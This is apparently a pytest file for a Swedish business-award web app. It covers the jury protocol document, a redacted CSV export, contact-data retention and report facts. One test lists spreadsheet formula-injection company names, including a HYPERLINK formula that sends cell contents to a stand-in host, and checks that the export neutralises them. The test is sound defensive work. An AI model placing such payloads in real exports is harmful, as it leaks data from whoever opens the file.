"""The jury protocol, the redacted export, retention and the report's facts."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
from docx import Document
from docx.oxml.ns import qn
from sqlalchemy import select

from app.audit.models import AuditEntry
from app.awards.facts import award_facts
from app.awards.models import (
    AwardCycle,
    ConflictDeclaration,
    ConflictRuling,
    Decision,
    Nomination,
    Phase,
    Score,
)
from app.extensions import db
from app.policy.models import FocusArea, ReportQuestion
from tests.awards.test_jury import setup_candidates
from tests.awards.world import CEREMONY, NOW, nominate
from tests.documents.printing import pdf_pages

CITATION = "Ett bageri som har gett Älvsjö torg liv från tidig morgon."


def decided_cycle(app, award):
    a1, a2, b1, criteria = setup_candidates(app, award)
    with app.app_context():
        cycle = db.session.get(AwardCycle, award.cycle_id)
        sole, _ = nominate(cycle, cycle.categories[0], "Frisör Fia", "640823-3234", eligible=True)
        for cid in criteria:
            db.session.add(
                Score(
                    juror_id=award.users["juror_a"].id, candidate_id=a1, criterion_id=cid, value=5
                )
            )
        db.session.add(
            ConflictDeclaration(
                candidate_id=sole.id,
                juror_id=award.users["juror_a"].id,
                has_conflict=True,
                ground="own_interest",
                ruling=ConflictRuling.CONFIRMED,
                ruling_note="Juryledamoten är kund",
            )
        )
        db.session.add(Decision(category_id=award.category_a, candidate_id=a1, citation=CITATION))
        cycle.phase = Phase.DECIDED
        db.session.commit()
    return a1


def test_the_protocol_reads_back_with_python_docx(app, client, award, login):
    decided_cycle(app, award)
    login(award.users["award_admin"])
    post_phase = client  # a logged phase change shows up in the timeline
    from tests.conftest import post

    post(
        post_phase,
        f"/manage/awards/{award.cycle_id}/phase",
        {"phase": "announced"},
        token_from=f"/manage/awards/{award.cycle_id}/",
    )
    response = client.get(f"/manage/awards/{award.cycle_id}/protocol.docx")
    assert response.status_code == 200
    assert response.mimetype.endswith("wordprocessingml.document")
    document = Document(io.BytesIO(response.data))
    text = "\n".join(p.text for p in document.paragraphs)
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    assert "Juryprotokoll – Årets lokala företag 2030" in text
    assert "Årets lokala nyföretag (Stockholm Business Region)" in text
    assert "Jury: Användare" in text
    assert f"Juryns motivering: {CITATION}" in text
    assert "Vinnare: Alfabageriet AB" in text
    assert "jäv föreligger" in text and "Juryledamoten är kund" in text
    assert "640823-****" in cells and "640823-3234" not in cells + [text]
    assert "5,00" in cells and "5.00" not in cells
    assert "Fasen ändrades från Beslutad (under embargo) till Tillkännagiven" in text
    assert "Sammanvägning: viktat medelvärde." in text


def test_the_redacted_export_masks_private_contact_details(app, client, award, login):
    decided_cycle(app, award)
    login(award.users["award_admin"])
    response = client.get(f"/manage/awards/{award.cycle_id}/redacted.csv")
    assert response.status_code == 200
    body = response.data.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body), delimiter=";"))
    assert {r["företag"] for r in rows} >= {"Alfabageriet AB", "Frisör Fia"}
    assert "nina.nominerare@example.se" not in body and "Nina Nominerare" not in body
    assert "karl@example.se" not in body and "+46850821083" not in body
    fia = next(r for r in rows if r["företag"] == "Frisör Fia")
    assert fia["organisationsnummer"] == "640823-****"
    assert fia["nominerande e-post"] == "n***@example.se"
    assert fia["motivering"] and fia["relation"] == "kund"


def test_retention_dry_run_changes_nothing_and_the_real_run_removes_contacts(
    app, runner, award, frozen
):
    decided_cycle(app, award)
    frozen(CEREMONY + timedelta(days=300))
    assert "Inget att rensa" in runner.invoke(args=["awards", "retention", "--dry-run"]).output
    frozen(CEREMONY + timedelta(days=370))
    result = runner.invoke(args=["awards", "retention", "--dry-run"])
    assert result.exit_code == 0 and "4 nomineringar skulle rensas" in result.output
    with app.app_context():
        assert all(n.nominator_email for n in db.session.scalars(select(Nomination)))
    result = runner.invoke(args=["awards", "retention"])
    assert result.exit_code == 0 and "4 nomineringar rensade" in result.output
    with app.app_context():
        for n in db.session.scalars(select(Nomination)):
            assert (
                n.nominator_email is n.nominator_phone is n.contact_email is n.contact_phone is None
            )
            assert n.nominator_name and n.contact_name and n.motivation and n.company_name
        entry = db.session.scalar(
            select(AuditEntry).where(AuditEntry.action == "awards.retention_applied")
        )
        assert entry.details["nominations"] == 4
        assert db.session.get(AwardCycle, award.cycle_id).retained_at is not None
    assert "Inget att rensa" in runner.invoke(args=["awards", "retention"]).output


def test_report_facts_for_linked_questions(app, award, frozen):
    from app.core import wiring

    assert award_facts in wiring.of(app).fact_sources  # wired in app/wiring.py
    decided_cycle(app, award)
    with app.app_context():
        area = FocusArea(number=1, name="Stimulera tillväxt", policy="Policy")
        db.session.add(area)
        db.session.flush()
        question = ReportQuestion(
            unit_id=award.unit.id,
            year=2030,
            focus_area_id=area.id,
            position=7,
            text="Hur sker samarbetet?",
        )
        db.session.add(question)
        cycle = db.session.get(AwardCycle, award.cycle_id)
        cycle.questions.append(question)
        db.session.commit()
        before = award_facts(award.unit.id, 2030, date(2030, 1, 1), date(2030, 12, 31))
        keys = {f.key.split(":")[-1] for f in before}
        assert keys == {"categories", "nominations", "ceremony"}
        texts = " ".join(f.text for f in before)
        assert "Årets lokala nyföretag (Stockholm Business Region)" in texts
        assert "4 nomineringar" in texts and "22 november 2030" in texts
        assert "Alfabageriet" not in texts
        frozen(CEREMONY)
        after = award_facts(award.unit.id, 2030, date(2030, 1, 1), date(2030, 12, 31))
        assert any("Alfabageriet AB" in f.text for f in after)
        t1 = award_facts(award.unit.id, 2030, date(2030, 1, 1), date(2030, 4, 30))
        assert "nominations" not in {f.key.split(":")[-1] for f in t1}
        assert all(f.question_id == question.id for f in after)
        assert NOW.year == 2030


HOSTILE_NAMES = (
    '=HYPERLINK("http://x.example/?leak="&A2,"Klicka")',
    "+46 8 SUMMA",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)


def test_the_redacted_export_never_carries_a_formula(app, client, award, login):
    """A company name typed into the public form comes out as text, whatever it starts with."""
    decided_cycle(app, award)
    with app.app_context():
        cycle = db.session.get(AwardCycle, award.cycle_id)
        for name in HOSTILE_NAMES:
            nominate(cycle, cycle.categories[0], name, "556036-0793", eligible=True)
        db.session.commit()
    login(award.users["award_admin"])
    body = client.get(f"/manage/awards/{award.cycle_id}/redacted.csv").data.decode("utf-8-sig")
    companies = {r["företag"] for r in csv.DictReader(io.StringIO(body), delimiter=";")}
    for name in HOSTILE_NAMES:
        assert "'" + name in companies, name
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r", "＝")) for c in companies)


def protocol_of(client, award) -> Document:
    response = client.get(f"/manage/awards/{award.cycle_id}/protocol.docx")
    assert response.status_code == 200
    return Document(io.BytesIO(response.data))


def test_the_protocol_reads_as_minutes_with_tables_apart_and_swedish_labels(
    app, client, award, login
):
    decided_cycle(app, award)
    admin = award.users["award_admin"]
    with app.app_context():
        cycle = db.session.get(AwardCycle, award.cycle_id)
        category_names = [c.name for c in cycle.categories]
        db.session.add(
            ConflictDeclaration(
                candidate_id=db.session.scalar(
                    select(Nomination.candidate_id).where(Nomination.company_name == "Frisör Fia")
                ),
                juror_id=award.users["juror_b"].id,
                has_conflict=True,
                ground="own_interest",
                ruling=ConflictRuling.CONFIRMED,
                ruling_note="Jäv föreligger.",
            )
        )
        db.session.commit()
    login(admin)
    document = protocol_of(client, award)
    texts = [p.text for p in document.paragraphs]
    text = "\n".join(texts)
    for field in ("Beslutsdatum: ", "Närvarande jurymedlemmar: ", "Justeras av: "):
        assert any(t.startswith(field) for t in texts), field
    assert f"Protokollförare: {admin.name}" in texts
    assert texts.index("Underskrifter") > texts.index("Planerade datum")
    assert "Beslut: jäv föreligger. Jäv föreligger." not in text
    assert "Beslut: jäv föreligger. Motivering: Juryledamoten är kund" in text
    # The candidate table and the ranking are two captioned tables, never one grid.
    captions = [p.text for p in document.paragraphs if p.style.name == "Caption"]
    assert f"Tabell 1a. Kandidater i {category_names[0]}" in captions
    assert f"Tabell 1b. Rangordning i {category_names[0]}" in captions
    for table in document.tables:
        assert table.rows[0]._tr.trPr.find(qn("w:tblHeader")) is not None
    assert any("viktat medelvärde" in c for c in captions)
    # A category without nominations says so instead of printing empty tables.
    if len(category_names) > 2:
        assert "Inga nomineringar." in texts
    happened = texts[texts.index("Vad som hände") + 1 : texts.index("Planerade datum")]
    assert happened and all("nominations_open" not in line for line in happened)
    assert document.sections[0].page_height.cm == pytest.approx(29.7, abs=0.05)
    assert document.core_properties.author and "python-docx" not in text


@pytest.mark.slow
def test_the_protocol_renders_in_libreoffice_with_page_numbers(app, client, award, login, tmp_path):
    decided_cycle(app, award)
    login(award.users["award_admin"])
    response = client.get(f"/manage/awards/{award.cycle_id}/protocol.docx")
    pages = pdf_pages(response.data, tmp_path)
    assert 1 <= len(pages) <= 6
    assert f"Sida 1 av {len(pages)}" in pages[0]
    assert "Juryprotokoll" in pages[0] and "Underskrifter" in pages[-1]
